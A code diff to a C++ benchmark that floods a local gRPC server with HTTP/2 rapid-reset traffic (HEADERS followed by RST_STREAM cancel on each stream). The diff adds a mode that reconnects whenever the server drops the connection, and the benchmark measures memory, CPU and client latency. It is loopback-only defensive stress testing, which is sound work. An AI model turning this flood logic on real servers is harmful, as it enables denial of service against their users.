@@ -4,9 +4,11 @@
 // client measures Health/Check latency on its own connection. Reports the
 // server's RSS (idle, peak, after), its CPU during and after the attack, and
 // the other client's latency percentiles. Loopback only; bounded in streams
-// and time.
+// and time. With --reconnect the attacker opens a new connection each time
+// the server closes one, until the streams or the time run out.
 //
-//   rapid_reset_bench [--streams N] [--seconds S] [-- JOBWIRED_FLAGS...]
+//   rapid_reset_bench [--streams N] [--seconds S] [--reconnect]
+//                     [-- JOBWIRED_FLAGS...]
 #include <arpa/inet.h>
 #include <grpcpp/grpcpp.h>
 #include <netinet/in.h>
@@ -76,6 +78,9 @@ void AppendHeader(std::string* block, const std::string& name,
 int main(int argc, char** argv) {
   int streams = 200000;
   int seconds = 30;
+  bool reconnect = false;
+  // A write to a connection the server closed fails instead of killing us.
+  ::signal(SIGPIPE, SIG_IGN);
   std::vector<std::string> server_flags;
   for (int i = 1; i < argc; ++i) {
     std::string arg = argv[i];
@@ -85,12 +90,14 @@ int main(int argc, char** argv) {
     }
     if (arg == "--streams" && i + 1 < argc) {
       (void)absl::SimpleAtoi(argv[++i], &streams);
+    } else if (arg == "--reconnect") {
+      reconnect = true;
     } else if (arg == "--seconds" && i + 1 < argc) {
       (void)absl::SimpleAtoi(argv[++i], &seconds);
     } else {
       std::fprintf(stderr,
                    "usage: rapid_reset_bench [--streams N] [--seconds S] "
-                   "[-- JOBWIRED_FLAGS...]\n");
+                   "[--reconnect] [-- JOBWIRED_FLAGS...]\n");
       return 2;
     }
   }
@@ -140,21 +147,10 @@ int main(int argc, char** argv) {
     }
   });
 
-  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
   sockaddr_in addr{};
   addr.sin_family = AF_INET;
   addr.sin_port = htons(port);
   addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
-    std::perror("connect");
-    return 1;
-  }
-  // Drain what the server sends so it never blocks on us.
-  std::thread drain([fd] {
-    char buf[65536];
-    while (::read(fd, buf, sizeof(buf)) > 0) {
-    }
-  });
   std::string block;
   block.push_back(static_cast<char>(0x83));  // :method POST
   block.push_back(static_cast<char>(0x86));  // :scheme http
@@ -162,39 +158,57 @@ int main(int argc, char** argv) {
   AppendHeader(&block, ":authority", "localhost");
   AppendHeader(&block, "content-type", "application/grpc");
   AppendHeader(&block, "te", "trailers");
-  std::string out = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-  AppendFrame(&out, 0x4, 0, 0, "");  // SETTINGS
   const std::string cancel("\0\0\0\x08", 4);
   const double cpu_before = jobwire::bench::ProcessCpuSeconds(server.pid());
   const absl::Time attack_start = absl::Now();
   const absl::Time attack_deadline = attack_start + absl::Seconds(seconds);
   int sent = 0;
+  int connections = 0;
   bool write_failed = false;
-  for (uint32_t id = 1; sent < streams && absl::Now() < attack_deadline;
-       id += 2) {
-    AppendFrame(&out, 0x1, 0x4, id, block);  // HEADERS, END_HEADERS
-    AppendFrame(&out, 0x3, 0, id, cancel);   // RST_STREAM CANCEL
-    ++sent;
-    if (out.size() >= 64 * 1024 || sent == streams) {
-      size_t off = 0;
-      while (off < out.size()) {
-        const ssize_t n = ::write(fd, out.data() + off, out.size() - off);
-        if (n <= 0) {
-          write_failed = true;
-          break;
-        }
-        off += static_cast<size_t>(n);
-      }
-      out.clear();
-      if (write_failed) break;
+  while (sent < streams && absl::Now() < attack_deadline) {
+    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
+    if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
+      std::perror("connect");
+      ::close(fd);
+      break;
     }
+    ++connections;
+    // Drain what the server sends so it never blocks on us.
+    std::thread drain([fd] {
+      char buf[65536];
+      while (::read(fd, buf, sizeof(buf)) > 0) {
+      }
+    });
+    std::string out = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+    AppendFrame(&out, 0x4, 0, 0, "");  // SETTINGS
+    write_failed = false;
+    for (uint32_t id = 1; sent < streams && absl::Now() < attack_deadline;
+         id += 2) {
+      AppendFrame(&out, 0x1, 0x4, id, block);  // HEADERS, END_HEADERS
+      AppendFrame(&out, 0x3, 0, id, cancel);   // RST_STREAM CANCEL
+      ++sent;
+      if (out.size() >= 64 * 1024 || sent == streams) {
+        size_t off = 0;
+        while (off < out.size()) {
+          const ssize_t n = ::write(fd, out.data() + off, out.size() - off);
+          if (n <= 0) {
+            write_failed = true;
+            break;
+          }
+          off += static_cast<size_t>(n);
+        }
+        out.clear();
+        if (write_failed) break;
+      }
+    }
+    ::shutdown(fd, SHUT_RDWR);
+    ::close(fd);
+    drain.join();
+    if (!write_failed || !reconnect) break;
   }
   const absl::Duration attack = absl::Now() - attack_start;
   const double cpu_attack =
       jobwire::bench::ProcessCpuSeconds(server.pid()) - cpu_before;
-  ::shutdown(fd, SHUT_RDWR);
-  ::close(fd);
-  drain.join();
   // After the attacker left: CPU in the next 2 s, then RSS.
   const double cpu_left = jobwire::bench::ProcessCpuSeconds(server.pid());
   absl::SleepFor(absl::Seconds(2));
@@ -215,7 +229,7 @@ int main(int argc, char** argv) {
   std::printf(
       "machine: %s; load %s\n"
       "jobwired flags:%s\n"
-      "streams sent: %d in %.1f s%s\n"
+      "streams sent: %d in %.1f s on %d connection(s)%s\n"
       "server RSS MiB: idle %.0f, peak %.0f (VmHWM %.0f), 5 s after %.0f\n"
       "server CPU s: during attack %.1f, in the 2 s after it %.2f\n"
       "other client Health/Check: %zu ok, %d failed; p50 %.1f ms, p99 %.1f "
@@ -228,8 +242,8 @@ int main(int argc, char** argv) {
         return f;
       }()
           .c_str(),
-      sent, absl::ToDoubleSeconds(attack),
-      write_failed ? " (server closed the connection)" : "", idle_rss,
+      sent, absl::ToDoubleSeconds(attack), connections,
+      write_failed ? " (server closed the last one)" : "", idle_rss,
       peak_rss.load(), hwm, after_rss, cpu_attack, cpu_after,
       latencies_ms.size(), failures, pct(0.5), pct(0.99),
       latencies_ms.empty() ? -1.0 : latencies_ms.back());
